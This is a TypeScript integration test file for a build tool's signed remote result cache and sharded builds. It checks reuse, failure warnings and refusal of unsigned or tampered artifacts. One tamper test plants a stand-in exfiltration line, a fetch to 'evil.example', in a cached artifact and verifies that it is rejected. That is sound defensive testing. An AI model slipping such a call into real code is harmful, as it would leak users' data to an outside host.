/**
 * The shared result cache (cache.remote) and `build --shard i/n`, against a real
 * turborepo-remote-cache server on 127.0.0.1 and the twin: a teammate's build costs no request,
 * a tampered artifact is refused and rebuilt, a dead cache never fails a build, and two shards
 * plus an assembling build produce the tree with every job generated exactly once.
 */
import { randomBytes } from 'node:crypto';
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { build } from '../../../src/compile.js';
import { directoryScript } from '../../../src/api-twin/index.js';
import { testRuntime, view } from '../../helpers/runtime.js';
import { runCli } from '../../helpers/cli.js';
import { startCacheServer, type CacheServer } from '../../helpers/remote-cache-server.js';
import { useTempWorkspace, useTwin } from '../../helpers/fixtures.js';
import { KEY, repo, specIds } from '../../helpers/provider.js';

const TOKEN = `tok-${randomBytes(12).toString('hex')}`;
const SIGNING_KEY = randomBytes(32).toString('hex');
let server: CacheServer;

beforeAll(async () => {
  server = await startCacheServer(TOKEN);
});
afterAll(async () => {
  await server?.stop();
});
const twins = useTwin();
const workspaces = useTempWorkspace();

const env = (withKey = true) => ({
  ...(twins.running ? { ANTHROPIC_BASE_URL: twins.running.url } : {}),
  ...(withKey ? { ANTHROPIC_API_KEY: KEY } : {}),
  SPECCC_REMOTE_CACHE_TOKEN: TOKEN,
  SPECCC_REMOTE_CACHE_KEY: SIGNING_KEY,
});

/** A workspace (the example's specs and context) that shares results through `url` as `team`. */
function workspace(team: string, url = server.url, root = workspaces.example()): string {
  writeFileSync(path.join(root, 'speccc.config.json'), JSON.stringify({ cache: { remote: { url, team } } }));
  return root;
}

async function buildIn(root: string, options: { withKey?: boolean; shard?: { index: number; count: number } } = {}) {
  const warnings: string[] = [];
  const runtime = await testRuntime(root, { env: env(options.withKey), onWarning: (line) => warnings.push(line), sharedCache: { pollMs: 20, maxPollMs: 50 } });
  const result = view(await build({ root, mode: 'build', runtime, ...(options.shard ? { shard: options.shard, shardWaitMs: 20_000 } : {}) }));
  return { result, warnings: [...runtime.warnings, ...warnings], counts: runtime.shared?.counts(), states: Object.fromEntries([...result.outcomes].map(([id, o]) => [id, o.state])) };
}

const read = (root: string, file: string) => readFileSync(path.join(root, 'generated', file), 'utf8');
const SOURCES = ['src/money.ts', 'src/line-items.ts', 'src/discount-codes.ts', 'src/invoice-totals.ts'];
const noSecrets = (text: string) => !text.includes(TOKEN) && !text.includes(SIGNING_KEY);

describe('the shared result cache', () => {
  it("a teammate's build restores every job from the cache with no request at all; a tampered artifact is refused and rebuilt", async () => {
    const twin = await twins.start({ script: await directoryScript(path.join(repo, 'examples/replies')) });
    const mine = workspace('team_teammate');
    const first = await buildIn(mine);
    expect(Object.values(first.states)).toEqual(['built', 'built', 'built', 'built']);
    expect(first.counts).toEqual({ restored: 0, uploaded: 4, refused: 0, errors: 0 });

    twin.clearRequests();
    const theirs = workspace('team_teammate');
    const second = await buildIn(theirs, { withKey: false });
    expect(second.warnings).toEqual([]);
    expect(Object.values(second.states)).toEqual(['reused', 'reused', 'reused', 'reused']);
    expect(twin.requests).toHaveLength(0); // not a message, not a Models API lookup
    expect(second.counts).toEqual({ restored: 4, uploaded: 0, refused: 0, errors: 0 });
    for (const file of SOURCES) expect(read(theirs, file)).toBe(read(mine, file));
    expect(second.result.manifest!.specs.get('money')!.provider).toBe(first.result.manifest!.specs.get('money')!.provider);

    // Someone with write access to the cache's storage (not the key) changes money's result.
    const moneyKey = first.result.outcomes.get('money')!.prepared!.key;
    const artifact = path.join(server.storage, 'team_teammate', moneyKey);
    const stored = JSON.parse(readFileSync(artifact, 'utf8')) as { files: Record<string, string> };
    stored.files['src/money.ts'] = `${stored.files['src/money.ts']}\nexport const exfiltrate = () => fetch('https://evil.example');\n`;
    writeFileSync(artifact, JSON.stringify(stored)); // the tag on the server stays the honest one
    const third = workspace('team_teammate');
    const rebuilt = await buildIn(third);
    expect(rebuilt.warnings).toEqual([`remote cache: refused the artifact for money (job ${moneyKey.slice(0, 12)}…): its signature does not verify (tampered, or signed with another key or team); building it instead`]);
    expect(rebuilt.states).toEqual({ money: 'built', 'line-items': 'reused', 'discount-codes': 'reused', 'invoice-totals': 'reused' });
    expect(specIds(twin)).toEqual(['money']);
    expect(read(third, 'src/money.ts')).not.toContain('evil.example');
    expect(read(third, 'src/money.ts')).toBe(read(mine, 'src/money.ts'));
    expect(rebuilt.counts).toEqual({ restored: 3, uploaded: 1, refused: 1, errors: 0 });
    expect(readFileSync(artifact, 'utf8')).not.toContain('evil.example'); // the honest result replaced it
  });

  it('a cache that does not answer never fails a build: each failure is one warning line, without the token or key', async () => {
    const twin = await twins.start({ script: await directoryScript(path.join(repo, 'examples/replies')) });
    const closed = net.createServer();
    await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve));
    const port = (closed.address() as net.AddressInfo).port;
    await new Promise<void>((resolve) => closed.close(() => resolve()));
    const root = workspace('team_down', `http://127.0.0.1:${port}`, workspaces.moneyOnly());
    const run = await buildIn(root);
    expect(run.states).toEqual({ money: 'built' });
    expect(run.warnings).toHaveLength(2);
    expect(run.warnings[0]).toMatch(/^remote cache get [0-9a-f]{16}: fetch failed: connect ECONNREFUSED 127\.0\.0\.1:\d+; building money instead$/);
    expect(run.warnings[1]).toMatch(/^remote cache put [0-9a-f]{16}: .*ECONNREFUSED.*; money's result stays local \(not shared\)$/);
    expect(run.counts).toEqual({ restored: 0, uploaded: 0, refused: 0, errors: 2 });
    const trace = readFileSync(path.join(root, '.speccc/runs', `${run.result.runId}.jsonl`), 'utf8');
    expect(trace).toContain('"type":"cache"');
    expect([...run.warnings, trace].every(noSecrets)).toBe(true);
  });

  it('refuses an unsigned artifact and builds the job', async () => {
    const twin = await twins.start({ script: await directoryScript(path.join(repo, 'examples/replies')) });
    // A cache that serves whatever it was given, without a tag (as turborepo-remote-cache does with tag storage off).
    const unsigned = http.createServer((req, res) => {
      req.resume();
      if (req.method === 'GET') res.writeHead(200, { 'content-type': 'application/octet-stream' }).end(JSON.stringify({ forged: true }));
      else res.writeHead(200).end();
    });
    await new Promise<void>((resolve) => unsigned.listen(0, '127.0.0.1', resolve));
    try {
      const root = workspace('team_unsigned', `http://127.0.0.1:${(unsigned.address() as net.AddressInfo).port}`, workspaces.moneyOnly());
      const run = await buildIn(root);
      expect(run.states).toEqual({ money: 'built' });
      expect(run.warnings).toEqual([expect.stringMatching(/^remote cache: refused the artifact for money \(job [0-9a-f]{12}…\): it is not signed; building it instead$/)]);
      expect(run.counts).toEqual({ restored: 0, uploaded: 1, refused: 1, errors: 0 });
    } finally {
      unsigned.closeAllConnections();
      await new Promise<void>((resolve) => unsigned.close(() => resolve()));
    }
  });

  it('without the signing key the cache is not used, and the build says so', async () => {
    const root = workspace('team_nokey', server.url, workspaces.moneyOnly());
    const runtime = await testRuntime(root, { env: { SPECCC_REMOTE_CACHE_TOKEN: TOKEN } });
    expect(runtime.shared).toBeNull();
    expect(runtime.warnings).toEqual(['cache.remote is configured but SPECCC_REMOTE_CACHE_KEY is not set: building without the shared cache (speccc never reads or writes it unsigned)']);
  });
});

describe('build --shard i/n', () => {
  it('two shards generate each job once, waiting on each other through the cache; the assembling build makes no request', async () => {
    const twin = await twins.start({ script: await directoryScript(path.join(repo, 'examples/replies')) });
    const [one, two] = await Promise.all([buildIn(workspace('team_shards'), { shard: { index: 1, count: 2 } }), buildIn(workspace('team_shards'), { shard: { index: 2, count: 2 } })]);
    // Waves: money | discount-codes, line-items | invoice-totals, dealt round-robin: 1, 2, 1, 2.
    expect(one.states).toEqual({ money: 'built', 'line-items': 'built', 'discount-codes': 'stale', 'invoice-totals': 'stale' });
    expect(two.states).toEqual({ money: 'reused', 'line-items': 'reused', 'discount-codes': 'built', 'invoice-totals': 'built' });
    expect(one.result.outcomes.get('invoice-totals')!.error).toBe('left to shard 2/2');
    expect(one.result.change).toBeNull(); // shards publish; they do not promote
    const generations = twin.messageRequests().map((r) => /speccc-spec-id: ([a-z0-9-]+)/.exec(r.rawBody)?.[1]);
    expect(generations.sort()).toEqual(['discount-codes', 'invoice-totals', 'line-items', 'money']);

    twin.clearRequests();
    const assembled = workspace('team_shards');
    const final = await buildIn(assembled, { withKey: false });
    expect(Object.values(final.states)).toEqual(['reused', 'reused', 'reused', 'reused']);
    expect(twin.requests).toHaveLength(0);
    expect(final.result.change!.written.length).toBeGreaterThan(0);
    expect(readdirSync(path.join(assembled, 'generated/src')).sort()).toEqual([...SOURCES.flatMap((s) => [s, s.replace('.ts', '.test.ts')])].map((s) => s.slice(4)).sort());
  });

  it('--shard is refused without a shared cache, with --force, and when i is not in 1..n', async () => {
    const root = workspaces.moneyOnly();
    const noCache = await runCli(['build', '--shard', '1/2'], { cwd: root, env: { ANTHROPIC_API_KEY: KEY } });
    expect(noCache).toMatchObject({ code: 2 });
    expect(noCache.stderr).toContain('--shard shares results through the remote cache: set cache.remote in speccc.config.json');
    expect((await runCli(['build', '--shard', '3/2'], { cwd: root, env: {} })).stderr).toBe('speccc: --shard 3/2: i must be from 1 to n\n');
    expect((await runCli(['build', '--shard', '1/2', '--force'], { cwd: root, env: {} })).code).toBe(2);
  });
});
